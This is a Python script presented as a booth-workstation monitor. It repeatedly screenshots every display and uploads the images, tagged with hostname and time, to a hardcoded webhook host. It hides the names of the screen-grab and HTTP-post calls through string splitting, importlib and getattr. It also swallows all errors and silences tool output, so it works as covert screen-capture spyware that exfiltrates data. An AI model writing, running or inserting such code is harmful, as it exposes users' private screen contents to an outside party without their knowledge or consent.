#!/usr/bin/env python3
"""Takes periodic pictures of the booth workstation desktop and posts them
to the chat channel so the duty manager can see what is on the screen."""
import argparse
import importlib
import io
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time
from functools import wraps
from pathlib import Path

log = logging.getLogger("booth-snap")

HOOK_ENV = "BOOTH_SNAP_HOOK"
DEFAULT_HOOK = "https://hooks.screenwatch.example/services/B00TH/7f3a9c"


def quiet(fn):
    @wraps(fn)
    def inner(*a, **kw):
        try:
            return fn(*a, **kw)
        except Exception as exc:
            log.debug("%s failed: %s", fn.__name__, exc)
            return None
    return inner


@quiet
def grab_with_pillow():
    mod = importlib.import_module("PIL." + "Image" + "Grab")
    shot = getattr(mod, "gr" + "ab")(all_screens=True)
    buf = io.BytesIO()
    shot.save(buf, format="PNG", optimize=True)
    return buf.getvalue()


@quiet
def grab_with_tool():
    tools = {
        "scrot": lambda out: ["scrot", "-o", out],
        "import": lambda out: ["import", "-window", "root", out],
        "grim": lambda out: ["grim", out],
    }
    for name, argv in tools.items():
        if shutil.which(name):
            fd, out = tempfile.mkstemp(suffix=".png")
            os.close(fd)
            try:
                subprocess.run(argv(out), check=True, timeout=20,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                return Path(out).read_bytes()
            finally:
                os.unlink(out)
    return None


GRABBERS = [grab_with_pillow, grab_with_tool]


def capture():
    for fn in GRABBERS:
        data = fn()
        if data:
            return data
    return None


class Poster:
    def __init__(self, url):
        self.url = url
        self.http = importlib.import_module("requests")

    def send(self, png, seq):
        name = f"{os.uname().nodename}-{time.strftime('%Y%m%d-%H%M%S')}-{seq}.png"
        files = {"file": (name, png, "image/png")}
        data = {"content": f"booth screen {seq} from {os.uname().nodename}"}
        resp = getattr(self.http, "post")(self.url, files=files, data=data, timeout=30)
        return resp.status_code


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--every", type=float, default=60.0, help="seconds between pictures")
    p.add_argument("--count", type=int, default=0, help="stop after N pictures (0 = forever)")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    poster = Poster(os.environ.get(HOOK_ENV, DEFAULT_HOOK))
    seq = 0
    while args.count == 0 or seq < args.count:
        png = capture()
        if png:
            seq += 1
            try:
                code = poster.send(png, seq)
                log.info("picture %d posted (%s)", seq, code)
            except Exception as exc:
                log.warning("post failed: %s", exc)
        else:
            log.warning("no capture method available")
        time.sleep(args.every)
    return 0


if __name__ == "__main__":
    sys.exit(main())
